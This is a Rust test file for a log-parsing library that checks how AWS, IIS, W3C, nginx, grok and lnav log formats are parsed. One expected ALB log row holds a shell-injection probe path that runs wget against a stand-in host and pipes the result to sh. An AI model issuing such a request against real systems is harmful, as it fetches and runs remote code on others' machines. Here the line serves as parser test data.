//! Formats that are data: those of the crate, in files, and those that users bring.

use std::ops::ControlFlow;
use std::path::{Path, PathBuf};

use cutwater::ReadPath;
use cutwater_logs::filter::Filter;
use cutwater_logs::format::{DataFormat, Definition, Format, data_formats, detect, from_lnav};
use cutwater_logs::render::{Rendering, Style};
use cutwater_logs::scan::{Finished, Profiling, Request, Rows, open, scan};
use cutwater_logs::split::Stop;
use cutwater_logs::time::Rules;
use jiff::tz::TimeZone;

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/formats").join(name)
}

/// The fields `names` of the records that meet `condition`, as CSV, and the pass.
fn rows_of(
    path: &Path,
    given: Option<&Definition>,
    names: &str,
    condition: &str,
    tune: impl Fn(&mut Request),
) -> (String, Finished<Rendering>) {
    let logs = [open(path, ReadPath::Auto, given, &TimeZone::UTC).expect("the log opens")];
    let names: Vec<_> = names.split(',').map(str::to_owned).collect();
    let mut request = Request { with_time: true, ..Request::new(1) };
    if !condition.is_empty() {
        request.filter = Filter::parse(condition, &TimeZone::UTC).expect("a condition");
        request.examine_all = false;
    }
    tune(&mut request);
    let mut out = Vec::new();
    let each = |_: usize, part: &mut cutwater_logs::scan::Part<Rows>| {
        out.extend_from_slice(&part.out.text);
        ControlFlow::Continue(())
    };
    let sink = || Rendering::new(&names, Style::Csv);
    let done = scan(&logs, &request, &Stop::default(), sink, each);
    assert!(done.failures.is_empty());
    (String::from_utf8(out).expect("text"), done)
}

fn rows(name: &str, given: Option<&Definition>, names: &str, condition: &str) -> String {
    rows_of(&data(name), given, names, condition, |_| {}).0
}

#[test]
fn logs_of_aws_and_of_web_servers_have_the_fields_of_access_logs() {
    assert_eq!(
        rows("alb.log", None, "status,method,host,path,user_agent", ""),
        "200,POST,192.0.2.14,/api/x:search?d=FULL&o=0,User 1.0\n\
         301,GET,192.0.2.140,/shell?cd+/tmp;wget+ a.ex.test/j;sh,\"Hello, world\"\n"
    );
    assert_eq!(
        rows("s3.log", None, "status,method,host,path,key,user_agent,host_id", ""),
        "200,GET,192.0.2.3,/bucket1?versioning,,S3Console/0.4,\
         s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234=\n\
         404,GET,192.0.2.3,/bucket1/a%20b.txt,a%2520b.txt,\"curl/8 \"\"q\"\"\",abc=\n"
    );
    assert_eq!(
        rows("iis.log", None, "date,time,status,method,path,host,cs-uri-query,time-taken", ""),
        "2026-01-02,03:04:05,200,GET,/a,192.0.2.1,,44\n\
         2026-01-02,03:04:06,500,GET,/b,192.0.2.1,x=1,12\n\
         2026-01-02,04:00:01,404,,,192.0.2.2,,\n"
    );
    assert_eq!(
        rows("cf.log", None, "status,path,host,x-edge-location,cs(Referer)", "status=403"),
        "403,/index.html,2001:db8::6fc6,FRA1,\n"
    );
}

#[test]
fn times_of_columns_are_those_of_their_date_and_time() {
    for (name, expected) in [
        ("iis.log", "2026-01-02T04:00:01Z"),
        ("cf.log", "2026-01-02T03:04:06Z"),
        ("alb.log", "2026-01-02T03:04:06.051646Z"),
        ("s3.log", "2026-01-02T03:04:06Z"),
    ] {
        let log = open(&data(name), ReadPath::Auto, None, &TimeZone::UTC).expect("opens");
        let last = cutwater_logs::seek::last_time(&log).expect("is read");
        assert_eq!(last.map(cutwater_logs::time::format_utc).as_deref(), Some(expected), "{name}");
    }
}

#[test]
fn lines_that_name_columns_are_no_bad_lines_and_no_records() {
    let (_, done) = rows_of(&data("iis.log"), None, "status", "", |_| {});
    let tally = &done.tallies[0];
    assert_eq!((tally.lines, tally.records, tally.bad.total()), (9, 3, 0));
}

#[test]
fn every_piece_of_a_log_is_read_by_the_columns_in_force() {
    let dir = tempfile::tempdir().expect("a folder");
    let path = dir.path().join("w3c.log");
    let mut text = String::from("#Version: 1.0\n#Fields: date time sc-status cs-uri-stem\n");
    let mut expected = String::new();
    for at in 0..3000 {
        // Columns change their places now and then, and the file's first 32 KiB do not show it.
        let swapped = (at / 700) % 2 == 1;
        if at > 0 && at % 700 == 0 {
            let names = if swapped { "cs-uri-stem sc-status" } else { "sc-status cs-uri-stem" };
            text.push_str(&format!("#Fields: date time {names}\n"));
        }
        let (status, uri) = (200 + at % 7, format!("/{at}"));
        let values = if swapped { format!("{uri} {status}") } else { format!("{status} {uri}") };
        text.push_str(&format!("2026-01-02 03:04:05 {values}\n"));
        expected.push_str(&format!("{status},{uri}\n"));
    }
    std::fs::write(&path, text).expect("is written");
    for (threads, piece) in [(1, 1 << 22), (1, 5000), (3, 3000), (4, 997)] {
        let (rows, done) = rows_of(&path, None, "status,path", "", |request| {
            request.threads = threads;
            request.limits.piece_bytes = piece;
            request.limits.block_bytes = 2048;
        });
        assert_eq!(rows, expected, "{threads} threads, pieces of {piece}");
        assert_eq!(done.tallies[0].bad.total(), 0);
    }
    // A line is looked at though what is asked for is not in it.
    let (rows, _) = rows_of(&path, None, "path", "status=206 and path=/706", |_| {});
    assert_eq!(rows, "/706\n");
}

#[test]
fn a_log_of_the_samples_of_a_format_is_of_that_format() {
    let rules = Rules::new(TimeZone::UTC, 1_795_824_000);
    let mut wrong = Vec::new();
    for format in data_formats() {
        let lines: Vec<_> = format.samples().iter().map(|sample| sample.line.as_str()).collect();
        let text = lines.join("\n") + "\n";
        let found = detect(text.as_bytes(), &rules).expect("a format").format;
        if found != Format::Data(format.name()) {
            wrong.push(format!("{} is read as {found}", format.name()));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn variables_of_nginx_that_hold_their_own_separator_are_cut_by_what_they_are() {
    let template = "$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent \
        \"$http_referer\" \"$http_user_agent\" $request_length $request_time \
        [$proxy_upstream_name] [$proxy_alternative_upstream_name] $upstream_addr \
        $upstream_response_length $upstream_response_time $upstream_status $req_id";
    let nginx = Definition::nginx(template).expect("a template");
    let names = "path,status,upstream_addr,upstream_response_time,upstream_status,req_id";
    assert_eq!(
        rows("ingress.log", Some(&nginx), names, ""),
        "/a,200,10.0.0.1:8080,0.004,200,aaaa1111\n\
         /b,200,\"10.0.0.1:8080, 10.0.0.2:8080\",\"1.001, 0.003\",\"502, 200\",bbbb2222\n\
         /c,499,10.0.0.1:8080,5.000,,cccc3333\n\
         /d,404,,,,dddd4444\n"
    );
    assert_eq!(rows("ingress.log", Some(&nginx), "req_id", "upstream_status~502"), "bbbb2222\n");
}

/// The fields of one line as CSV.
fn one(definition: &Definition, names: &str, line: &str) -> String {
    let file = tempfile::NamedTempFile::new().expect("a file");
    std::fs::write(file.path(), format!("{line}\n")).expect("is written");
    rows_of(file.path(), Some(definition), names, "", |_| {}).0
}

#[test]
fn grok_patterns_have_their_usual_names_and_fields() {
    let grok = |pattern: &str| Definition::from(DataFormat::from_grok(pattern).expect("a pattern"));
    let line = r#"192.0.2.1 - bob [02/Jan/2026:03:04:05 +0000] "GET /a?b=c HTTP/1.1" 200 2326 "http://x/" "curl/8""#;
    assert_eq!(
        one(
            &grok("%{COMBINEDAPACHELOG}"),
            "clientip,ident,auth,timestamp,verb,request,httpversion,response,bytes,agent",
            line
        ),
        "192.0.2.1,,bob,02/Jan/2026:03:04:05 +0000,GET,/a?b=c,1.1,200,2326,\"\"\"curl/8\"\"\"\n"
    );
    assert_eq!(
        one(
            &grok(
                r"%{TIMESTAMP_ISO8601:ts} %{LOGLEVEL:level} +\[%{DATA:[app][thread]}\] %{GREEDYDATA:message}"
            ),
            "ts,level,app.thread,message",
            "2026-01-02T03:04:05.123+01:00 WARN  [main 1] a b"
        ),
        "2026-01-02T03:04:05.123+01:00,WARN,main 1,a b\n"
    );
    assert_eq!(
        one(
            &grok(
                "%{IP:ip} %{NUMBER:n:int} %{NUMBER:id:string} %{UUID:u} %{URI:url} %{PATH:p} %{QS:q} %{MAC:m}"
            ),
            "ip,n,id,u,url,p,q,m",
            "2001:db8::1 17 007 0a1b2c3d-1111-2222-3333-444455556666 https://example.com:80/a?b=c /var/log 'x y' 00:11:22:aa:bb:cc"
        ),
        "2001:db8::1,17,007,0a1b2c3d-1111-2222-3333-444455556666,https://example.com:80/a?b=c,/var/log,'x y',00:11:22:aa:bb:cc\n"
    );
    assert_eq!(
        one(
            &grok("%{SYSLOGBASE} %{GREEDYDATA:message}"),
            "timestamp,logsource,program,pid,message",
            "Jan  2 03:04:05 host1 sshd[77]: Accepted"
        ),
        "Jan  2 03:04:05,host1,sshd,77,Accepted\n"
    );
    for (pattern, words) in [
        ("%{NOSUCH:x}", "NOSUCH"),
        ("%{WORD}", "names no group"),
        ("%{WORD:x", "without its end"),
        ("%{WORD:x}(", "not a regular expression"),
    ] {
        let error = DataFormat::from_grok(pattern).expect_err("refused").to_string();
        assert!(error.contains(words), "{error}");
    }
}

#[test]
fn formats_of_lnav_are_read_as_they_are() {
    let text = r#"{
        "$schema": "https://lnav.org/schemas/format-v1.schema.json",
        "shop_log": {
            "title": "Shop",
            "regex": {
                "std": { "pattern": "^(?<timestamp>\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2})\\s++\\[(?<level>[^\\]]+)\\] (?>(?<user>\\w+)): (?<body>.*)$" },
                "short": { "pattern": "^(?<timestamp>\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}) (?<body>[a-z<>\\[&&x]+)$" }
            },
            "level-field": "level",
            "level": { "error": "E", "warning": "W", "info": "^I$" }
        },
        "json_log": { "json": true, "timestamp-field": "when", "line-format": [{ "field": "when" }] },
        "back_log": { "regex": { "std": { "pattern": "^(?<a>\\w+) \\1$" } } },
        "ahead_log": { "regex": { "std": { "pattern": "^(?=x)(?<a>\\w+)$" } } }
    }"#;
    let (mut formats, unsupported) = from_lnav(text).expect("a file of formats");
    let names: Vec<_> = formats.iter().map(DataFormat::name).collect();
    assert_eq!(names, ["json_log", "shop_log"]);
    let why: Vec<_> = unsupported.iter().map(|u| format!("{}: {}", u.name, u.words)).collect();
    assert!(why[0].contains("ahead_log") && why[0].contains("look-ahead"), "{why:?}");
    assert!(why[1].contains("back_log") && why[1].contains("back-reference"), "{why:?}");
    let shop = Definition::from(formats.pop().expect("two formats"));
    assert_eq!(shop.time(), Some("timestamp"));
    assert_eq!(
        one(&shop, "level,user,body", "2026-01-02 03:04:05 [E] bob: a b"),
        "ERROR,bob,a b\n"
    );
    assert_eq!(one(&shop, "body", "2026-01-02 03:04:05 a[&"), "a[&\n");
    let json = Definition::from(formats.pop().expect("one more"));
    assert_eq!(json.time(), Some("when"));
    assert_eq!(one(&json, "n", r#"{"when":"2026-01-02T03:04:05Z","n":1}"#), "1\n");
}

#[test]
fn a_file_of_a_format_says_what_is_wrong_with_it() {
    let wrong = |text: &str| DataFormat::from_toml(text).expect_err("refused").to_string();
    for (text, words) in [
        ("name = ", "not TOML"),
        ("title = 'x'", "has no name"),
        ("name = 'x'", "neither pattern"),
        ("name = 'x y'\npattern = '(?<a>b)'", "may have only letters"),
        ("name = 'x'\npattern = 'b'", "names no group"),
        ("name = 'x'\npattern = '(?<a>%{nothing})'", "no pattern is called %{nothing}"),
        ("name = 'x'\npattern = '(?<a>b)'\npatern = 'c'", "\"patern\", which is not known"),
        ("name = 'x'\npattern = '(?<a>b)'\ntime = 't'", "no group is called so"),
        ("name = 'x'\npattern = '(?<level>b)'\nlevels = { b = 'loud' }", "the levels are TRACE"),
        ("name = 'x'\npattern = '(?<a>b)'\ntypes = { a = 'colour' }", "the types are auto"),
    ] {
        let error = wrong(text);
        assert!(error.contains(words), "{error}");
    }
}

#[test]
fn a_sample_with_another_value_fails_its_test() {
    let text = "name = 'x'\npattern = '(?<time>%{rfc3339}) (?<n>.*)'\n[[sample]]\n\
                line = '2026-01-02T03:04:05Z 1'\nat = '2026-01-02T03:04:06Z'\nfields = { n = 2, m = 'x' }";
    let format = std::sync::Arc::new(DataFormat::from_toml(text).expect("a format"));
    let problems = format.test().expect("it compiles");
    let words: Vec<_> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        words,
        [
            "sample 1: the time is 2026-01-02T03:04:05Z, not 2026-01-02T03:04:06Z",
            "sample 1: n is 1, not 2",
            "sample 1: m is missing; it should be \"x\"",
        ]
    );
}

proptest::proptest! {
    // Each case reads lines of all formats.
    #![proptest_config(proptest::test_runner::Config::with_cases(16))]
    #[test]
    fn no_line_breaks_a_format(
        line in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
        cut in 0usize..400,
    ) {
        for format in data_formats() {
            let Some(sample) = format.samples().get(cut % 3) else { continue };
            let mut block = sample.line.clone().into_bytes();
            block.truncate(cut);
            block.extend(&line);
            let definition = Definition::of(Format::Data(format.name()), &block, &Rules::default());
            let mut fields = cutwater_logs::Fields::all();
            let mut parser = definition.parser(&mut fields, &Rules::default());
            let mut record = cutwater_logs::Record::default();
            parser.begin_block(&block);
            let mut at = 0;
            while at < block.len() {
                record.clear();
                at = parser.parse(&block, at, &mut fields, &mut record).0 + 1;
                for (_, span) in record.present() {
                    let _ = cutwater_logs::value::text(span, &block);
                }
            }
        }
    }
}

/// The times of the records of `text`.
fn times_of(text: &str) -> Vec<String> {
    let file = tempfile::NamedTempFile::new().expect("a file");
    std::fs::write(file.path(), text).expect("writes");
    let log = open(file.path(), ReadPath::Auto, None, &TimeZone::UTC).expect("opens");
    let mut request = Request::new(1);
    request.with_time = true;
    let logs = [log];
    let done = scan(&logs, &request, &Stop::default(), Profiling::default, |_, _| {
        ControlFlow::Continue(())
    });
    assert_eq!(done.tallies[0].bad.total(), 0, "{text}");
    let ranges = done.sinks.iter().flat_map(|sink| sink.logs.iter()).filter_map(|log| log.2.range);
    ranges.flat_map(|(first, last)| [first, last]).map(cutwater_logs::time::format_utc).collect()
}

#[test]
fn columns_of_the_w3c_may_be_quoted_spread_and_local() {
    for text in [
        "#Fields: date-local time-local s-ip\n2026-01-02 03:04:05 1.2.3.4\n",
        "#Fields: date time c-ip\n\"2026-01-02\" \"03:04:05\" \"1.2.3.4\"\n",
        "#Fields:  c-ip  date  time  cs-uri\n1.2.3.4      2026-01-02     03:04:05      /a\n",
        "#Fields: date time s-ip\n2026-01-02 03:04:05 1.2.3.4 - 80 more\n",
    ] {
        assert_eq!(times_of(text), ["2026-01-02T03:04:05Z", "2026-01-02T03:04:05Z"], "{text}");
    }
}
